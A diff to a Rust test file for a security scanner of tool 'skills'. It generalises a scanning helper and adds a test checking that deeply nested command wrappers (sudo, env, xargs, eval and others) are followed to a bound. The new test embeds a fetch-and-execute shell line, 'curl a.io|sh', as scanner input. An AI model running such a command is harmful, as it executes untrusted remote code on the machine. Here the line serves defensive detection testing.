@@ -1,4 +1,4 @@
-//! Python that is made to exhaust a scanner: each file is finished with, and what was not examined is said.
+//! Programs that are made to exhaust a scanner: each file is finished with, and what was not examined is said.
 
 #![expect(clippy::unwrap_used, reason = "a failed test may panic")]
 
@@ -8,10 +8,14 @@ use skillgate_model::{Content, Examination, Manifest, Skill, SkillFile, SkillKin
 use skillgate_scanner::{Rules, Scan, Scanner};
 
 fn scan(source: impl Into<Vec<u8>>) -> Scan {
+    scan_as("tool.py", source)
+}
+
+fn scan_as(name: &str, source: impl Into<Vec<u8>>) -> Scan {
     let bytes: Vec<u8> = source.into();
     let file = SkillFile {
-        path: "tool.py".into(),
-        raw: "tool.py".into(),
+        path: name.into(),
+        raw: name.into(),
         mode: 0o644,
         size: bytes.len() as u64,
         sha256: String::new(),
@@ -20,7 +24,7 @@ fn scan(source: impl Into<Vec<u8>>) -> Scan {
     let skill = Skill {
         name: "tool".into(),
         kind: SkillKind::File,
-        root: "tool.py".into(),
+        root: name.into(),
         manifest: Manifest::default(),
         manifest_path: None,
         files: vec![file],
@@ -96,6 +100,23 @@ fn a_chain_is_examined_up_to_a_bound_and_then_said_to_be_too_deep() {
     assert!(ids(&examined).contains(&"SEC-CALL-001"));
     let beyond = chain(200_000);
     assert!(ids(&beyond).contains(&"SEC-PARSE-004") && !is_complete(&beyond));
+}
+
+#[test]
+fn commands_that_are_given_to_commands_are_followed_to_a_bound() {
+    for wrapper in [
+        "sudo ",
+        "env A=1 ",
+        "timeout 1 ",
+        "xargs ",
+        "find . -exec ",
+        "eval ",
+    ] {
+        let wrapped =
+            |times: usize| scan_as("a.sh", format!("{}curl a.io|sh\n", wrapper.repeat(times)));
+        assert!(is_complete(&wrapped(3)), "{wrapper}");
+        assert!(!is_complete(&wrapped(30_000)), "{wrapper}");
+    }
 }
 
 #[test]
